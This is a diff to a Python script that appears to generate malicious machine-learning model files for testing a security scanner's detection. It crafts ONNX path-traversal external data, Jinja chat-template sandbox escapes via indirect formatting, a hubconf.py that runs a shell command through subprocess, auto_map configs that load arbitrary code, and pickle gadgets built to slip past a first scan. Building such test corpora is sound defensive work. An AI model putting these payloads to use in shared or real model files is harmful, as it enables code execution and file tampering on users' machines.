@@ -624,6 +624,60 @@ def write_all():
         J, "processor_config.json auto_map")
     put("j_processor_auto_map/processing_mlsec.py", mod, J, "the processor module")
 
+    # ============================================================ K. second round (after the first scan)
+    K = "K round 2"
+    # ONNX external data in places a walker may skip (training_info was missed in round 1)
+    main = graph([node("Identity", ["x"], ["y"], fb(5, fb(1, "tensors") + fb(10, ext_tensor("w", trav)) + fv(20, 9)),
+                       domain="mlsec.attr")], "main", inputs=["x"], outputs=["y"])
+    put("k_onnx_attr_tensors_list.onnx", model(main, domains=[("mlsec.attr", 1)]), K,
+        "external data `../` in an attribute's repeated `tensors` (TENSORS)")
+    spattr = fb(1, ext_tensor("sv", trav, dims=(2,))) + fb(2, fv(1, 2) + fv(2, 7) + fb(8, "si") + fv(7, 0) + fv(7, 1)) + fv(3, 4)
+    main = graph([node("Constant", [], ["y"], fb(5, fb(1, "sparse_value") + fb(22, spattr) + fv(20, 11)))], "main",
+                 outputs=["y"])
+    put("k_onnx_constant_sparse_value.onnx", model(main), K, "external data `../` in Constant `sparse_value` (SPARSE_TENSOR)")
+    main = graph([node("MlsecOp", ["x"], ["y"], fb(5, fb(1, "bodies") + fb(11, then_g) + fv(20, 10)), domain="mlsec.attr")],
+                 "main", inputs=["x"], outputs=["y"])
+    put("k_onnx_attr_graphs_list.onnx", model(main, domains=[("mlsec.attr", 1)]), K,
+        "external data `../` inside a graph of an attribute's repeated `graphs` (GRAPHS)")
+    put("k_onnx_training_only_algorithm.onnx",
+        model(graph([node("Identity", ["x"], ["y"])], "main", inputs=["x"], outputs=["y"]), training=fb(2, init_g)), K,
+        "external data `../` in training_info.algorithm only")
+    # templates: more indirect formatting (CVE-2024-56326 class)
+    for name, tpl in {
+        "k_indirect_format_map": "{% set u = '%c'|format(95) %}{% set fm = ('{0.' ~ u*2 ~ 'class' ~ u*2 ~ '.' ~ u*2 ~ 'mro' ~ u*2 ~ '}').format_map %}{{ fm({'0': messages}) }}{% for m in messages %}{{ m['content'] }}{% endfor %}",
+        "k_format_via_dict_lookup": "{% set u = '%c'|format(95) %}{% set d = {'f': ('{0.' ~ u*2 ~ 'init' ~ u*2 ~ '}').format} %}{{ d.f(cycler) }}{% for m in messages %}{{ m['content'] }}{% endfor %}",
+    }.items():
+        put(name + "/tokenizer_config.json", json.dumps(dict(base, chat_template=tpl), indent=2).encode(), K,
+            "template: " + name[2:].replace("_", " "))
+    # loader code by convention: more files that a loader executes because of where they sit
+    put("k_hubconf_subdir/repo/hubconf.py", b"import subprocess\nsubprocess.run(['sh', '-c', '" + CMD.encode() + b"'])\n"
+        b"def resnet(**kw):\n    return None\n", K, "torch.hub repo hubconf.py calling subprocess")
+    put("k_tokenizer_auto_map_list/tokenizer_config.json", json.dumps({
+        "tokenizer_class": "MlsecTokenizer", "auto_map": {"AutoTokenizer": ["tokenization_mlsec.MlsecTokenizer", None]}}).encode(),
+        K, "tokenizer_config auto_map in list form [slow, null]")
+    put("k_tokenizer_auto_map_list/tokenization_mlsec.py", mod, K, "the tokenizer module")
+    put("k_feature_extractor_auto_map/preprocessor_config.json", json.dumps({
+        "feature_extractor_type": "MlsecFeatureExtractor",
+        "auto_map": {"AutoFeatureExtractor": "feature_extraction_mlsec.MlsecFeatureExtractor"}}).encode(),
+        K, "preprocessor_config auto_map for AutoFeatureExtractor")
+    put("k_feature_extractor_auto_map/feature_extraction_mlsec.py", mod, K, "the feature extractor module")
+    # pickles: gadgets of round 1 that were only suspicious, in other shapes
+    pk("k_numpy_npy_load_module_getattr.pkl",
+       call(getattr_(g("numpy.compat", "py3k"), "npy_load_module"), u("mlsec_blind5"), u(TMP + ".py")),
+       K, "npy_load_module reached by getattr on the numpy.compat.py3k module")
+    pk("k_scipy_netcdf_file_unbound_flush.pkl",
+       call(g("scipy.io._netcdf", "netcdf_file.flush"), call(g("scipy.io._netcdf", "netcdf_file"), u(TMP + ".nc"), u("w"))),
+       K, "netcdf_file(path,'w') then unbound flush writes it")
+    pk("k_tempfile_closer_in_sklearn_like_state.pkl",
+       build(call(g("copyreg", "_reconstructor"), g("sklearn.linear_model._base", "LinearRegression"), g("builtins", "object"), N),
+             dct((u("fit_intercept"), TRUE), (u("_cache"), build(call(g("copyreg", "_reconstructor"),
+                 g("tempfile", "_TemporaryFileCloser"), g("builtins", "object"), N), closer_state)))),
+       K, "the tempfile __del__ gadget hidden in an estimator's __dict__")
+    pk("k_typing_get_type_hints_namespace.pkl",
+       call(g("typing", "get_type_hints"), build(call(g("argparse", "Namespace")),
+                                                 dct((u("__annotations__"), dct((u("y"), u(CODE))))))),
+       K, "typing.get_type_hints on an argparse.Namespace")
+
 
 def main():
     for r, _, files in os.walk(OUT):
